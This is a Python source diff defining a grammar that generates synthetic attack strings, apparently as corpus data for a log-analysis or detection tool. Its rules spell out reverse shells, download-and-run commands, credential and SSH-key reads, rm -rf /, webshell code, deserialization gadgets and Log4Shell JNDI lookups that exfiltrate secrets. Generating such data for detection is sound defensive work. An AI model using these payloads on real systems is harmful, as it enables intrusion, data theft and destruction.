@@ -1,0 +1,97 @@
+"""Attacks that make a server run or look up something: shells, interpreters, objects, directories, logs, headers."""
+
+from __future__ import annotations
+
+import base64
+from typing import Final
+
+from weirlog.models.corpus.grammar import Chance, Grammar, Rules
+from weirlog.models.corpus.values import LOWER, TERMINALS
+
+
+def _java_object(chance: Chance) -> str:
+    """Return the start of a Java object stream, as Base64 or as bytes read as Latin-1."""
+    stream = b"\xac\xed\x00\x05sr\x00" + bytes([chance.number(10, 60)]) + b"java.util." + chance.pick(
+        (b"HashMap", b"PriorityQueue", b"HashSet")
+    ) + chance.randbytes(chance.number(20, 120))  # fmt: skip
+    return base64.b64encode(stream).decode() if chance.maybe(0.8) else stream.decode("latin-1")
+
+
+def _pickle(chance: Chance) -> str:
+    body = f"cposix\nsystem\n(S'{chance.letters(LOWER, 2, 8)}'\ntR."
+    if chance.maybe(0.5):
+        return base64.b64encode(body.encode()).decode()
+    return body
+
+
+def _php_object(chance: Chance) -> str:
+    name = chance.pick(
+        (
+            "Monolog\\Handler\\SyslogUdpHandler",
+            "GuzzleHttp\\Psr7\\FnStream",
+            "stdClass",
+            "Evil",
+            "Example",
+            "PDO",
+            "SplFileObject",
+            "User",
+            "Logger",
+            "Swift_Mailer",
+        )
+    )
+    field, value = (
+        chance.letters(LOWER, 3, 9),
+        chance.pick(("system", "phpinfo", "/etc/passwd", "id", "shell.php", "1")),
+    )
+    return f'O:{len(name)}:"{name}":{chance.number(1, 4)}:{{s:{len(field)}:"{field}";s:{len(value)}:"{value}";}}'
+
+
+_SHELL: Final[Rules] = {
+    "arg": ["/etc/passwd", "/etc/shadow", "-la", "/", "c:\\", "-a", "«word»", "«file»", "/tmp/«word»", "/etc/hosts", "*", "../"],
+    "w": [" ", " ", " ", " ", "${IFS}", "$IFS", "$IFS$9", "\t", "%09", "+", "<", "  "],
+    "tool": ["id", "id", "whoami", "whoami", "ls«w»«arg»", "ls", "ls", "cat«w»«arg»", "cat«w»/etc/passwd", "cat«w»/etc/passwd", "uname -a", "uname", "pwd", "ps aux", "netstat -an", "ifconfig", "ipconfig /all", "dir", "dir c:\\", "type c:\\windows\\win.ini", "type %SYSTEMROOT%\\win.ini", "net user", "ver", "systeminfo", "hostname", "env", "printenv", "w", "set",
+             "ping -c «small» «ip»", "ping -n «small» «host»", "ping«w»«host»", "sleep«w»«small»", "sleep «small»", "timeout /t «small»", "nslookup «host»", "nslookup«w»«rnd».«host»", "dig «host»", "curl http://«host»/«word»", "curl«w»«host»", "wget http://«ip»/«word».sh", "wget«w»http://«host»/«word» -O /tmp/«word»; sh /tmp/«word»", "curl http://«ip»/x|sh", "nc -e /bin/sh «ip» «nn»", "nc«w»«ip»«w»«nn»",
+             "bash -i >& /dev/tcp/«ip»/«nn» 0>&1", "bash -c 'bash -i >& /dev/tcp/«ip»/«nn» 0>&1'", "python -c 'import os;os.system(\"id\")'", "perl -e 'print \"«word»\"'", "php -r 'phpinfo();'", "echo «rnd»", "echo «word»>/tmp/«word»", "echo $((«n»+«n»))", "expr «n» + «n»", "rm -rf /", "rm -rf /tmp/«word»", "del /q «word»", "touch /tmp/«word»", "chmod 777 /tmp/«word»", "cmd /c dir", "cmd.exe /c whoami",
+             "powershell -enc «rnd»", "powershell iex(new-object net.webclient).downloadstring('http://«host»/a')", "/bin/cat /etc/passwd", "/usr/bin/id", "/bin/ls -al", "/???/c?t /???/p??s??", "c''at /etc/passwd", "w'h'o'am'i", "who\\ami", "ca\\t /et\\c/pa\\sswd", "c$@at /etc/passwd", "{cat,/etc/passwd}", "cat</etc/passwd", "$(echo d2hvYW1p|base64 -d)", "echo aWQ= | base64 -d | sh", "tac /etc/passwd", "head /etc/passwd", "more /etc/passwd",
+             "mail «email» </etc/passwd", "busybox nc «ip» «nn» -e sh", "mkfifo /tmp/f", "xterm -display «ip»:1", "reboot", "shutdown -h now", "kill -9 -1", "wh$()oami", "ls${IFS}-la", "find / -name «word»", "grep root /etc/passwd", "telnet «ip» «nn»", "sh -i", "/bin/sh", "id;uname -a", "cat $HOME/.ssh/id_rsa", "tftp -i «ip» get «word».exe", "certutil -urlcache -f http://«host»/a.exe a.exe", "net localgroup administrators «word» /add", "awk 'BEGIN{system(\"id\")}'"],
+    "sep": [";", ";", "; ", "|", "| ", " | ", "||", " || ", "&&", " && ", "&", " & ", "\n", "%0a", "\r\n", "';", "\";", "'|", "\"|", "';\n", "`", ");", "|&", "';'", ";;", "\u0000;", "%0d%0a", "\"&&", "'&&", "^\n"],
+    "after": ["", "", "", "", "", ";", "#", " #", "|", "&", "'", "\"", ";'", "||", "\n", " &", " ;echo", "%0a", "`", "&&echo «rnd»"],
+    "cmdi": ["«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«sep»«tool»«after»", "«sep»«tool»«after»", "$(«tool»)", "`«tool»`", "«before»$(«tool»)", "«before»`«tool»`", "«before»'$(«tool»)'", "«before»\"`«tool»`\"", "a;«tool»;a", "«sep»«tool»«sep»«tool»", "() { :;}; /bin/bash -c '«tool»'", "() { :; }; echo; «tool»", "() { _; } >_[$($())] { «tool»; }",
+             "/bin/sh -c «tool»", "cmd.exe /c «tool»", "cat /etc/passwd", "/bin/cat /etc/passwd", "<!--«sep»«tool»-->", "«before»«sep»{«tool»}", "@(«tool»)", "system('«tool»')", "exec('«tool»')", "«before»«sep»$(printf '«tool»')", "ping -c «small» 127.0.0.1;«tool»", "«ip»«sep»«tool»", "«ip»«sep»«tool»«after»", "«host»«sep»«tool»", "«before»«sep»eval «tool»", "$(«tool»>/dev/tcp/«ip»/«nn»)", "<(«tool»)", "%0a«tool»%0a", "x=$(«tool»);curl http://«host»/$x", "\\\";«tool»;\\\""],
+    "before": ["", "«word»", "«n»", "«ip»", "«host»", "«file»", "«email»", "«small»", "«rnd»", "test", "«word» «word»"],
+}  # fmt: skip
+
+_CODE: Final[Rules] = {
+    "php": ["<?php «phpcall»; ?>", "<?php «phpcall»;?>", "<?=«phpcall»?>", "<? «phpcall» ?>", "phpinfo()", "phpinfo();", ";«phpcall»;", "';«phpcall»;//", "\";«phpcall»;#", "${«phpcall»}", "{${«phpcall»}}", "«word»');«phpcall»;//", "<?php «phpcall»", "«phpcall»", "'.«phpcall».'", "\".«phpcall».\"", "{${«phpcall»}}\\", "<?php @«phpcall»;", "<script language=\"php\">«phpcall»</script>", "«phpcall»;//", "<% eval request(\"«word»\") %>", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"],
+    "phpcall": ["phpinfo()", "system('«shell»')", "system($_GET['«word»'])", "eval($_POST['«word»'])", "eval(base64_decode('«rnd»«rnd»«rnd»'))", "passthru('«shell»')", "shell_exec('«shell»')", "exec('«shell»')", "assert($_REQUEST['«word»'])", "file_get_contents('/etc/passwd')", "print(md5(«n»))", "echo md5('«word»')", "die(md5(«n»))", "readfile('/etc/passwd')", "file_put_contents('«word».php','<?php «word»')",
+                "var_dump(«n»*«n»)", "call_user_func('system','«shell»')", "call_user_func_array($_GET[a],$_GET[b])", "create_function('','«shell»')", "preg_replace('/.*/e','system(\"«shell»\")','')", "print(«n»*«n»)", "echo «n»+«n»", "include('http://«host»/a')", "popen('«shell»','r')", "$_GET[0]($_GET[1])", "('sys'.'tem')('«shell»')", "chr(115).chr(121)", "proc_open('«shell»')", "highlight_file('index.php')", "show_source(__FILE__)", "`«shell»`", "print_r(scandir('/'))", "fopen('php://input','r')", "set_time_limit(0)", "error_reporting(0);@eval($_POST[«d»])"],
+    "shell": ["id", "ls", "whoami", "cat /etc/passwd", "uname -a", "ls -la", "dir", "wget http://«host»/a"],
+    "java": ["%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«shell»').(@java.lang.Runtime@getRuntime().exec(#cmd))}", "%{«math»}", "${@java.lang.Runtime@getRuntime().exec('«shell»')}", "T(java.lang.Runtime).getRuntime().exec('«shell»')", "new java.lang.ProcessBuilder({'«shell»'}).start()", "java.lang.Runtime.getRuntime().exec(\"«shell»\")", "#a=@java.lang.Runtime@getRuntime().exec('«shell»')",
+             "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']}", "redirectAction:%{«math»}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('«word»')", "''.getClass().forName('java.lang.Runtime').getMethods()[«d»].invoke(null,'«shell»')", "${class.getClassLoader()}", "@java.lang.System@getProperty('user.dir')", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«word»',«n»)}", "${script:javascript:java.lang.Runtime.getRuntime().exec('«shell»')}", "${url:UTF-8:http://«host»/}", "${dns:address|«host»}", "groovy.lang.GroovyShell", "\"«shell»\".execute().text", "Runtime.getRuntime().exec('«shell»').waitFor()", "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "action:%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'«shell»'})).start()}"],
+    "node": ["require('child_process').exec('«shell»')", "require(\"child_process\").execSync(\"«shell»\").toString()", "process.mainModule.require('child_process').execSync('«shell»')", "global.process.mainModule.require('fs').readFileSync('/etc/passwd')", "';require('child_process').exec('«shell»');//", "res.end(require('fs').readdirSync('.').toString())", "process.exit()", "this.constructor.constructor('return process')().env", "eval(\"require('child_process')\")", "{\"__proto__\":{\"admin\":true}}", "{\"__proto__\":{\"«word»\":\"«word»\"}}", "constructor.prototype.«word»=«d»", "__proto__[«word»]=«word»", "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "process.binding('spawn_sync')", "global.process.env.«word»", "(function(){while(1){}})()", "import('child_process').then(x=>x.exec('«shell»'))", "console.log(process.env);", "vm.runInNewContext('«shell»')", "require('http').get('http://«host»')"],
+    "python": ["__import__('os').system('«shell»')", "__import__('os').popen('«shell»').read()", "eval(compile('import os;os.system(\"«shell»\")','a','exec'))", "exec('import os;os.system(\"«shell»\")')", "open('/etc/passwd').read()", "import os; os.system('«shell»')", "import subprocess;subprocess.call(['«shell»'])", "().__class__.__bases__[0].__subclasses__()", "str(__import__('time').sleep(«d»))", "os.system('«shell»')", "Kernel.exec('«shell»')", "IO.popen('«shell»').read", "system(\"«shell»\")", "`«shell»`.to_s", "eval('«math»')", "print(open('/etc/passwd').read())", "${@print(md5(«word»))}", "'+__import__('os').popen('«shell»').read()+'", "gettattr(__builtins__,'ev'+'al')('«math»')", "use POSIX; system('«shell»')"],
+    "math": ["«d»*«d»", "«nn»*«nn»", "7*7", "1+1"],
+    "code": ["«php»", "«php»", "«java»", "«node»", "«python»"],
+    "java_object": _java_object,
+    "pickle": _pickle,
+    "php_object": _php_object,
+    "deserialization": ["«java_object»", "«java_object»", "«pickle»", "«php_object»", "«php_object»", "a:1:{i:0;«php_object»}", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('«shell»')}()\"}", "!!python/object/apply:os.system [\"«shell»\"]", "!!python/object/new:subprocess.Popen [[«shell»]]", "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/object:Gem::Requirement\nrequirements:", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://«host»/\"]]]]",
+                        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://«host»/«word»\",\"autoCommit\":true}", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"«host»\"}", "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://«host»/a.xml\"]", "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u«rnd»«rnd»", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>«shell»</string></void></array><void method=\"start\"/></object></java>", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"/></handler></dynamic-proxy></sorted-set>", "C:«small»:\"«word»\":«n»:{«word»}"],
+}  # fmt: skip
+
+_DIRECTORIES: Final[Rules] = {
+    "attribute": ["uid", "cn", "objectClass", "userPassword", "mail", "user", "sn", "«noun»", "memberOf", "givenName"],
+    "ldapi": ["*)(«attribute»=*", "*)(«attribute»=*))(|(«attribute»=*", "*))(|(«attribute»=*", "«word»)(&)", "«word»)(|(«attribute»=*)", "*)(|(«attribute»=*)", "admin)(&(«attribute»=*", "*)(&(«attribute»=«word»", "*))%00", "«word»*)(«attribute»=*))(&(«attribute»=*", "(|(«attribute»=*)(«attribute»=*))", ")(«attribute»=*))(|(«attribute»=*", "«word»)(!(&(1=0", "admin))(|(|", "*)(objectClass=*))(&(objectClass=void", "x)(«attribute»=*))(|(x=x",
+              "*(|(«attribute»=*))", "*)(«attribute»>=0)", "«word»)(«attribute»=\\2a", "%2a%29%28«attribute»=%2a", "«word»)(|(password=*))", "*)((|«attribute»=*", "*))(«attribute»=*", "«word»*))(|(«attribute»=«d»*", "admin*)((|userPassword=*)"],
+    "xpath": ["' or '«d»'='«d»' or ''='", "' or name()='«word»' or '1'='2", "x' or name()='username' or 'x'='y", "'] | //*['", "'] | //user/*[contains(*,'", "' or count(/*)=«d» or '", "' and count(/«noun»/child::node())=«d» and '1'='1", "' or substring(name(/*[1]),1,1)='«d»' or '", "' or string-length(//«noun»[«d»]/«noun»)>«small» or '", "'] | //password | a['", "*[contains(«noun»,'«word»')] or 1=1", "admin' or '1'='1' or 'a'='a", "')] | //«noun»[contains('", "//*|//@*",
+              "1 or count(//*)>0", "' or //user[position()=«d»]/name='«word»' or '", "'] /*[position()=1]|//*['", "' and doc('http://«host»/')/* and '1'='1", "x'] or 1=1 or x['", "' or starts-with(//«noun»/text(),'«d»') or '1'='2", "string(//user[name/text()='«word»' and password/text()='«word»'])", "' or contains(name,'«word»') or '' = '", "'] | //node()[('')=('", "' or ancestor::*[1] or '"],
+    "newline": ["\r\n", "\r\n", "\r\n", "\n", "%0d%0a", "%0D%0A", "%0a", "%0d", "\\r\\n", "%250d%250a", "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\r", "%23%0d%0a", "%3f%0d%0a"],
+    "header": ["Set-Cookie: «word»=«rnd»", "Set-Cookie:«word»=«word»;", "Location: http://«host»", "Location:http://«host»/", "X-«word»: «word»", "Content-Length: 0«newline»«newline»HTTP/1.1 200 OK", "Content-Type: text/html«newline»«newline»<script>alert(«d»)</script>", "Host: «host»", "«newline»<html>«word»</html>", "Content-Length: 0", "HTTP/1.1 200 OK«newline»Content-Type: text/html", "X-XSS-Protection: 0", "Refresh: 0;url=http://«host»", "Access-Control-Allow-Origin: *", "bcc: «email»", "Bcc:«email»«newline»", "To: «email»", "Cc: «email»", "Transfer-Encoding: chunked", "GET /admin HTTP/1.1«newline»Host: localhost", "Link: <http://«host»>; rel=preload"],
+    "crlf": ["«before»«newline»«header»", "«before»«newline»«header»", "«before»«newline»«header»«newline»", "«newline»«header»", "«newline»«header»", "http://«host»/«newline»«header»", "«before»?«newline»«header»", "/«word»«newline»«header»«newline»«newline»", "«before» HTTP/1.1«newline»«header»"],
+    "protocol": ["ldap", "ldap", "rmi", "ldaps", "dns", "iiop", "corba", "nis", "${lower:l}dap", "l${::-d}ap", "${::-l}${::-d}${::-a}${::-p}"],
+    "jndi_word": ["jndi", "jndi", "jndi", "${lower:j}ndi", "${lower:j}${lower:n}${lower:d}i", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di", "${upper:j}ndi", "${env:«word»:-j}ndi", "jnd${upper:ı}", "${lower:${lower:jndi}}", "${sys:«word»:-jn}di", "j${lower:n}d${lower:i}", "${env:BARFOO:-j}nd${env:BARFOO:-i}"],
+    "jndi": ["${«jndi_word»:«protocol»://«host»/«word»}", "${«jndi_word»:«protocol»://«host»/«word»}", "${«jndi_word»:«protocol»://«ip»:«nn»/«rnd»}", "${«jndi_word»:«protocol»://«host»/${env:«secret_name»}}", "«before»${«jndi_word»:«protocol»://«ip»/«word»}", "${«jndi_word»${env:«word»:-:}«protocol»${env:«word»:-:}//«host»/a}", "${jndi:ldap://127.0.0.1#«host»/a}", "${${env:«word»:-j}ndi:«protocol»://«rnd».«host»/}", "${jndi:«protocol»:/«host»/«word»", "%24%7Bjndi:«protocol»://«host»/a%7D", "${jndi:dns://«host»/${java:version}}", "${ctx:«word»}${jndi:«protocol»://«ip»/}"],
+    "secret_name": ["AWS_SECRET_ACCESS_KEY", "USER", "JAVA_VERSION", "HOSTNAME", "PATH", "DB_PASSWORD"],
+}  # fmt: skip
+
+COMMAND_GRAMMAR: Final = Grammar(TERMINALS, _CODE, _DIRECTORIES, _SHELL)
